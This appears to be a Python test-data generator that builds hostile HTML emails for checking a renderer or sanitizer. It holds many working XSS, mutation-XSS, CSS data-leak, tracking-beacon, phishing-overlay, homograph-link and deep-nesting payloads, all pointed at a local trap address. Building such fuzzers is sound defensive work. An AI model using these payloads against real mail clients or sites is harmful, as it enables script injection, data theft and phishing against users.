"""Letters whose HTML wants to run, to ask somebody, or to leave its frame: made from a grammar, the same for a seed.

A letter is a few attacks of different families, each bent by a few tricks (entities, case, control characters,
comments, foreign content, unclosed elements), inside shapes that real letters have. Whatever gets through shows
itself: scripts call `ran()`, and every address leads to a trap that counts who asks.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import dataclass

Trick = Callable[[random.Random, str], str]
# What a script does when it runs: the page hears a message, a dialogue opens, the title changes, somebody is asked.
RAN = "parent.postMessage('ran {n}','*');top.postMessage('ran {n}','*');console.error('RAN {n}');alert('ran {n}');new Image().src='{trap}/js-{n}'"
QUOTED = RAN.replace("'", "&#39;")

EVENTS = (
    "onload onerror onclick onmouseover onfocus onanimationstart onanimationend ontransitionend ontoggle onbegin onend onrepeat "
    "onpageshow onresize onscroll onpointerover onwheel oncopy onbeforeinput oncanplay onloadstart onratechange onbeforetoggle "
    "oncontentvisibilityautostatechange onscrollend onwebkitanimationstart onmessage onhashchange onafterscriptexecute"
).split()

FAMILIES: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>{js}</script>", "<script src='{trap}/s-{n}.js'></script>", "<SCRIPT\x0csrc={trap}/s-{n}.js>", "<script type=module>{js}</script>",
        "<script>/*<![CDATA[*/{js}//]]></script>", "<scr<script>ipt>{js}</scr</script>ipt>", "<script/x>{js}</script\n>", "<script nonce=''>{js}</script>",
        "<noscript><p title=\"</noscript><img src=x onerror={attr}>\">", "<script async defer src=//{host}/s-{n}></script>",
    ),
    "handler": (
        "<img src=x {event}=\"{attr}\">", "<body {event}=\"{attr}\">", "<div {event}=\"{attr}\" style='animation:x 1s'>a</div>", "<input autofocus {event}=\"{attr}\">",
        "<details open {event}=\"{attr}\"><summary>s</summary></details>", "<video {event}=\"{attr}\"><source src=x onerror=\"{attr}\"></video>",
        "<img src=x{event}={attr}//{event}=\"{attr}\">", "<a {event}=\"{attr}\" tabindex=0 autofocus>x</a>", "<img/src=x/{event}=\"{attr}\">",
        "<table {event}=\"{attr}\"><td background=x {event}=\"{attr}\">c</table>", "<marquee {event}=\"{attr}\">m</marquee>", "<font {event}=\"{attr}\">f</font>",
    ),
    "address": (
        "<a href=\"javascript:{attr}\">click here</a>", "<a href='java\tscript:{attr}'>tab</a>", "<a href='&#106;avascript&colon;{attr}'>entity</a>",
        "<a href='\x01javascript:{attr}'>control</a>", "<a href='data:text/html,<script>{js}</script>'>data</a>", "<a href='vbscript:msgbox(1)'>vb</a>",
        "<a target=_top href='{trap}/top-{n}'>top</a>", "<a href='{trap}/ping' ping='{trap}/ping-{n}'>ping</a>", "<a href=//{host}/relative-{n}>relative</a>",
        "<area href=javascript:{attr} shape=default>", "<map name=m><area shape=rect coords=0,0,999,999 href='{trap}/map-{n}' target=_top></map><img usemap=#m src=x>",
        "<a href='blob:{trap}/x'>blob</a>", "<a href='filesystem:{trap}/x'>fs</a>", "<a xlink:href='javascript:{attr}'>xlink</a>",
    ),
    "foreign": (
        "<svg onload=\"{attr}\"></svg>", "<svg><script>{js}</script></svg>", "<svg><image href='{trap}/svg-{n}'/></svg>", "<svg><use href='{trap}/use-{n}#x'/></svg>",
        "<svg><animate onbegin=\"{attr}\" attributeName=x dur=1s>", "<svg><a xlink:href='javascript:{attr}'><text y=20>t</text></a></svg>",
        "<svg><foreignObject><iframe src='{trap}/fo-{n}'></iframe></foreignObject></svg>", "<svg><style>*{{background:url({trap}/svgcss-{n})}}</style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=\"{attr}\"></style></mglyph></table></mtext></math>",
        "<math href='javascript:{attr}'>m</math>", "<math><maction actiontype='statusline#{trap}' xlink:href='javascript:{attr}'>x</maction></math>",
        "<svg><set attributeName=onmouseover to=\"{attr}\"/></svg>", "<svg><feImage href='{trap}/fe-{n}'/></svg>", "<svg><title><style><!--</style><img src=x onerror=\"{attr}\">",
    ),
    "mutation": (
        "<noembed><img title=\"</noembed><img src onerror={attr}>\"></noembed>", "<p title='</xmp><img src=x onerror={attr}>'><xmp>", "<svg></p><style><a id=\"</style><img src=1 onerror={attr}>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror={attr}>", "<math><annotation-xml encoding='text/html'><style><img src=x onerror={attr}></style></annotation-xml></math>",
        "<template><img src=x onerror=\"{attr}\"></template>", "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror={attr}>\">",
        "<listing>&lt;img src=x onerror={attr}&gt;</listing>", "<textarea><!--</textarea><img src=x onerror=\"{attr}\">-->", "<table><a><table></a><img src=x onerror=\"{attr}\"></table>",
        "<svg><desc><table><tr><td><iframe srcdoc=\"<script>{js}</script>\"></svg>", "<plaintext><img src=x onerror=\"{attr}\">", "<!--><img src=x onerror=\"{attr}\">-->", "<![CDATA[<img src=x onerror=\"{attr}\">]]>",
    ),
    "style": (
        "<style>@import url({trap}/imp-{n}.css);*{{background:url('{trap}/css-{n}')}}</style>", "<link rel=stylesheet href='{trap}/link-{n}.css'>",
        "<div style=\"background:url({trap}/bg-{n})\">b</div>", "<div style=\"background-image:u\\72l({trap}/esc-{n})\">e</div>", "<div style=\"background:url/**/({trap}/com-{n})\">c</div>",
        "<div style=\"width:expression(alert(1))\">x</div>", "<div style=\"behavior:url({trap}/htc-{n})\">x</div>", "<div style=\"-moz-binding:url({trap}/xbl-{n})\">x</div>",
        "<div style='content:url({trap}/cnt-{n})'>x</div>", "<ul style=\"list-style:url({trap}/li-{n})\"><li>l</ul>", "<p style=\"cursor:url({trap}/cur-{n}),auto\">c</p>",
        "<style>input[value^=a]{{background:url({trap}/leak-a-{n})}}@font-face{{font-family:q;src:url({trap}/font-{n})}}p{{font-family:q}}</style><input value=abc><p>f</p>",
        "<div style=\"background:image-set('{trap}/set-{n}' 1x)\">s</div>", "<div style=\"mask:url({trap}/mask-{n});filter:url({trap}/f-{n}#f);border-image:url({trap}/bi-{n})\">m</div>",
        "<div style=\"position:fixed;inset:0;z-index:99999;background:red\">Your session is over. Sign in again.</div>", "<p style=\"--x:url({trap}/var-{n});background:var(--x)\">v</p>",
        "<div style='background:\\000075rl({trap}/nul-{n})'>n</div>", "<table background='{trap}/tb-{n}'><tr background='{trap}/tr-{n}'><td background='{trap}/td-{n}'>t</table>",
    ),
    "loading": (
        "<img src='{trap}/img-{n}.gif'>", "<img srcset='{trap}/set-{n} 1x, {trap}/set2-{n} 2x'>", "<picture><source srcset='{trap}/pic-{n}'><img src=x></picture>", "<img src=x lowsrc='{trap}/low-{n}' dynsrc='{trap}/dyn-{n}'>",
        "<iframe src='{trap}/frame-{n}'></iframe>", "<iframe srcdoc=\"<script>{js}</script><img src={trap}/doc-{n}>\"></iframe>", "<object data='{trap}/obj-{n}'><embed src='{trap}/emb-{n}'></object>",
        "<audio autoplay src='{trap}/a-{n}'></audio><video autoplay poster='{trap}/poster-{n}' src='{trap}/v-{n}'><track default src='{trap}/t-{n}'></video>",
        "<link rel=prefetch href='{trap}/pre-{n}'><link rel=preload as=image href='{trap}/load-{n}'><link rel=icon href='{trap}/ico-{n}'><link rel=manifest href='{trap}/man-{n}'>",
        "<link rel=dns-prefetch href='//{host}'><link rel=preconnect href='{trap}'><link rel=modulepreload href='{trap}/mod-{n}'>", "<meta http-equiv=refresh content='0;url={trap}/refresh-{n}'>",
        "<base href='{trap}/base-{n}/'><img src=relative.gif><a href=relative>r</a>", "<form action='{trap}/form-{n}'><input type=image src='{trap}/inp-{n}'><button autofocus>b</button></form>",
        "<img src='//{host}/scheme-{n}'>", "<img src='http:\\\\{host}\\back-{n}'>", "<img src='h\tttp://{host}/tab-{n}'>", "<input type=image src='{trap}/image-{n}'>", "<image src='{trap}/image2-{n}'>",
        "<frameset><frame src='{trap}/fs-{n}'></frameset>", "<applet code=x codebase='{trap}/app-{n}'></applet>", "<isindex action='{trap}/isx-{n}'>", "<portal src='{trap}/portal-{n}'></portal>", "<meta http-equiv='Content-Security-Policy' content='img-src *'>",
        "<img src='data:image/svg+xml,<svg onload=\"{attr}\"/>'>", "<img crossorigin src='{trap}/cors-{n}' loading=eager fetchpriority=high>", "<script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"{trap}/spec-{n}\"]}}]}}</script>",
    ),
    "unicode": (
        "\u202e<img src=x onerror=\"{attr}\">\u202c", "＜script＞{js}＜/script＞", "<ſcript>{js}</ſcript>", "<ımg src=x onerror=\"{attr}\">", "\ufeff<script>{js}</script>", "<img src=x onerror\u2028=\"{attr}\">",
        "<a href='https://xn--80ak6aa92e.example'>раypal</a>", "<p>\u200b\u200d\u2066\u2067{n}\u2069</p>", "<a href='javas\u200bcript:{attr}'>z</a>", "<img\u00a0src=x\u00a0onerror=\"{attr}\">", "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    ),
}  # fmt: skip

SHAPES = (
    "{0}", "<table width=600><tr><td>{0}</td></tr></table>", "<html><head><title>t</title></head><body>{0}</body></html>", "<blockquote type=cite>{0}</blockquote>",
    "<div dir=ltr>{0}<br>-- <br>Sig</div>", "<center><font color=red>{0}</font></center>", "<ul><li>{0}</ul>", "<pre>{0}</pre>", "<p>{0}", "<!--[if mso]>{0}<![endif]-->{0}",
    "<style>p{{margin:0}}</style>{0}", "<a href='https://shop.example'>{0}</a>", "<table><tr>{0}<td>x", "</div></td></table></body></html>{0}",
)  # fmt: skip


@dataclass(frozen=True)
class HostileLetter:
    """`words` stand in front of every attack and must be read."""

    number: int
    html: str
    words: str
    families: tuple[str, ...]


def hostile_letter(number: int, trap: str) -> HostileLetter:
    """The letter of that number. `trap`: an address such as http://127.0.0.1:8001 that counts who asks."""
    dice = random.Random(number)  # noqa: S311 (the same letters every time)
    families = tuple(dice.choice(list(FAMILIES)) for _ in range(dice.randint(1, 5)))
    attacks = [_bent(dice, _attack(dice, family, number, trap)) for family in families]
    words = f"Plain words {number}."
    if number % 50 == 0:
        attacks.append(_deep(dice, attacks[0]))
    inside = dice.choice(SHAPES).replace("{0}", "".join(attacks)).replace("{{", "{").replace("}}", "}")
    return HostileLetter(number, f"<p>{words}</p>{inside}", words, families)


def _attack(dice: random.Random, family: str, number: int, trap: str) -> str:
    template = dice.choice(FAMILIES[family])
    filled = template.replace("{event}", dice.choice(EVENTS)).replace("{js}", RAN).replace("{attr}", QUOTED)
    return (
        filled.replace("{trap}", trap).replace("{host}", trap.partition("//")[2]).replace("{n}", str(number))
    )


def _bent(dice: random.Random, attack: str) -> str:
    for _ in range(dice.choice((0, 0, 1, 1, 2))):
        attack = dice.choice(TRICKS)(dice, attack)
    return attack


def _case(dice: random.Random, text: str) -> str:
    head, _, rest = text.partition(" ")
    return "".join(dice.choice((char.upper(), char)) for char in head) + (f" {rest}" if rest else "")


def _unclosed(_dice: random.Random, text: str) -> str:
    return text[:-1] if text.endswith(">") else text


def _wrapped(dice: random.Random, text: str) -> str:
    name = dice.choice(
        "svg math style title textarea noscript template select table xmp iframe noembed option object desc mtext foreignObject b a form".split()
    )
    return dice.choice(
        (f"<{name}>{text}</{name}>", f"<{name}>{text}", f"{text}</{name}>", f"<{name}/>{text}")
    )


def _noise(dice: random.Random, text: str) -> str:
    at = dice.randrange(max(1, min(len(text), 40)))
    return (
        text[:at]
        + dice.choice(
            ("\x00", "\x0c", "<", "<!--", "-->", "/", "\t", "&#0;", "\u2028", "<![CDATA[", "%00", '"', "'")
        )
        + text[at:]
    )


def _entities(dice: random.Random, text: str) -> str:
    at = text.find("javascript")
    if at < 0:
        return text
    letter = dice.randrange(10)
    code = ord(text[at + letter])
    written = dice.choice((f"&#{code};", f"&#x{code:x};", f"&#{code:07d}", f"&#X{code:X}"))
    return text[: at + letter] + written + text[at + letter + 1 :]


def _comment(_dice: random.Random, text: str) -> str:
    return f"<!-- --!>{text}<!--"


def _twice(_dice: random.Random, text: str) -> str:
    return text.replace("<", "<<", 1) + text


def _attribute(dice: random.Random, text: str) -> str:
    return f'<p title="{dice.choice(("", ">", chr(39)))}{text}">{text}'


def _deep(dice: random.Random, text: str) -> str:
    """Deeper than any browser should be asked to go; half as tables, which nest in two steps."""
    opening = dice.choice(
        ("<table><tr><td>", "<div>", "<b>", "<blockquote>", "<a><b><i>", "<font color=red>")
    )
    return opening * (10_000 // opening.count("<")) + text


TRICKS: tuple[Trick, ...] = (
    _case,
    _unclosed,
    _wrapped,
    _wrapped,
    _noise,
    _noise,
    _entities,
    _comment,
    _twice,
    _attribute,
)
